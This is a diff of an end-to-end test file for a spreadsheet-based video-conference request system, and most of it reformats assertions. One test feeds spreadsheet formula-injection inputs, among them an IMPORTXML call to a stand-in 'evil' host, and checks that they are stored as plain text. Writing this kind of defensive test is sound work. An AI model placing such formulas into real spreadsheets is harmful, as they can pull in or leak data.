@@ -19,8 +19,15 @@ describe('foundation on the built bundle', () => {
     e.app.call('menuSetup');
     expect(e.ws.spreadsheet.sheetNames()).toEqual(sheetsBefore);
     expect(e.ws.triggers()).toHaveLength(triggersBefore);
-    expect(e.ws.triggers().map((t) => t.handler).sort()).toEqual(['onFpvcSubmit', 'runHourly']);
-    expect(sheetsBefore).toEqual(expect.arrayContaining(['Register', 'Riwayat', 'Pengaturan', 'Pengguna', 'Plh', 'Sumber Daya']));
+    expect(
+      e.ws
+        .triggers()
+        .map((t) => t.handler)
+        .sort(),
+    ).toEqual(['onFpvcSubmit', 'runHourly']);
+    expect(sheetsBefore).toEqual(
+      expect.arrayContaining(['Register', 'Riwayat', 'Pengaturan', 'Pengguna', 'Plh', 'Sumber Daya']),
+    );
     expect(e.ws.ui.shown.at(-1)).toMatch(/tidak ada yang diubah/);
   });
 
@@ -32,23 +39,45 @@ describe('foundation on the built bundle', () => {
     e.submit(validAnswers({ Email: 'bukan email' }));
     e.submit(validAnswers({ 'Jam mulai': '11:00', 'Jam selesai': '10:00' }));
     e.submit(validAnswers({ 'Tanggal kegiatan': '2020-01-01', 'Perkiraan jumlah peserta': 'banyak' }));
-    expect(e.column('Nomor')).toEqual(['VC-2026-0001', 'VC-2026-0002', 'VC-2026-0003', 'VC-2026-0004', 'VC-2026-0005', 'VC-2026-0006']);
+    expect(e.column('Nomor')).toEqual([
+      'VC-2026-0001',
+      'VC-2026-0002',
+      'VC-2026-0003',
+      'VC-2026-0004',
+      'VC-2026-0005',
+      'VC-2026-0006',
+    ]);
     const status = e.column('Status');
     expect(status.slice(0, 3)).toEqual(Array(3).fill('Menunggu Disposisi Kepala Dinas'));
     expect(status.slice(3)).toEqual(Array(3).fill('Perlu Perbaikan'));
     const reasons = e.column('Alasan Perbaikan');
     expect(reasons[3]).toBe('Alamat email tidak valid.');
     expect(reasons[4]).toBe('Jam selesai harus setelah jam mulai.');
-    expect(String(reasons[5]).split('\n').sort()).toEqual(['Jumlah peserta tidak terbaca: "banyak".', 'Perkiraan jumlah peserta wajib diisi dengan angka.', 'Tanggal kegiatan sudah lewat.']);
+    expect(String(reasons[5]).split('\n').sort()).toEqual([
+      'Jumlah peserta tidak terbaca: "banyak".',
+      'Perkiraan jumlah peserta wajib diisi dengan angka.',
+      'Tanggal kegiatan sudah lewat.',
+    ]);
     expect(String(e.column('Peringatan')[2])).toMatch(/kurang dari batas minimal H-1/);
-    const history = e.sheet('Riwayat').slice(1).filter((r) => r[2] === 'masuk');
+    const history = e
+      .sheet('Riwayat')
+      .slice(1)
+      .filter((r) => r[2] === 'masuk');
     expect(history).toHaveLength(6);
     expect(e.column('Tanggal Kegiatan')[0]).toBeInstanceOf(Date);
   });
 
   it('keeps formula-like and phone text as typed, never as formulas', () => {
     const e = e2eWorld();
-    e.submit(validAnswers({ 'Nama pemohon': '=IMPORTXML("http://evil","//a")', 'Instansi/OPD': '+SUM(A1)', Jabatan: '@kepala', Keterangan: '-1+2', 'Nomor WhatsApp': '+62 812 3456 7890' }));
+    e.submit(
+      validAnswers({
+        'Nama pemohon': '=IMPORTXML("http://evil","//a")',
+        'Instansi/OPD': '+SUM(A1)',
+        Jabatan: '@kepala',
+        Keterangan: '-1+2',
+        'Nomor WhatsApp': '+62 812 3456 7890',
+      }),
+    );
     const sheet = e.ws.spreadsheet.sheetByName('Register')!;
     expect(sheet.formulas.flat().filter((f: string) => f !== '')).toEqual([]);
     expect(e.column('Nama Pemohon')[0]).toBe('=IMPORTXML("http://evil","//a")');
@@ -68,7 +97,12 @@ describe('foundation on the built bundle', () => {
     expect(ids).toHaveLength(50);
     expect(new Set(ids).size).toBe(50);
     expect(ids).toEqual(Array.from({ length: 50 }, (_, i) => `VC-2026-${String(i + 1).padStart(4, '0')}`));
-    expect(e.sheet('Riwayat').slice(1).filter((r) => r[2] === 'masuk')).toHaveLength(50);
+    expect(
+      e
+        .sheet('Riwayat')
+        .slice(1)
+        .filter((r) => r[2] === 'masuk'),
+    ).toHaveLength(50);
     expect(e.ws.locks.leaked).toBe(0);
   });
 
@@ -88,7 +122,26 @@ describe('foundation on the built bundle', () => {
     const e = e2eWorld();
     e.submit(validAnswers());
     e.as('kadis@kominfo.go.id');
-    const r = e.app.call('submitLetterRequest', { applicantName: 'Budi', agency: 'Bappeda', position: 'Sekretaris', email: 'budi@bappeda.go.id', phone: '081234567890', letterNumber: '005/77', letterDate: '2026-11-20', srikandiNumber: 'SRK-1', title: 'Rapat RKPD', eventDate: '2026-12-01', startTime: '09:00', endTime: '10:00', platform: 'Zoom', participants: '40', needsRoom: false, needsOperator: false, needsRecording: false, notes: '' });
+    const r = e.app.call('submitLetterRequest', {
+      applicantName: 'Budi',
+      agency: 'Bappeda',
+      position: 'Sekretaris',
+      email: 'budi@bappeda.go.id',
+      phone: '081234567890',
+      letterNumber: '005/77',
+      letterDate: '2026-11-20',
+      srikandiNumber: 'SRK-1',
+      title: 'Rapat RKPD',
+      eventDate: '2026-12-01',
+      startTime: '09:00',
+      endTime: '10:00',
+      platform: 'Zoom',
+      participants: '40',
+      needsRoom: false,
+      needsOperator: false,
+      needsRecording: false,
+      notes: '',
+    });
     expect(r).toEqual({ ok: true, value: expect.objectContaining({ id: 'VC-2026-0002' }) });
     expect(e.column('Sumber')).toEqual(['Formulir', 'Surat']);
   });
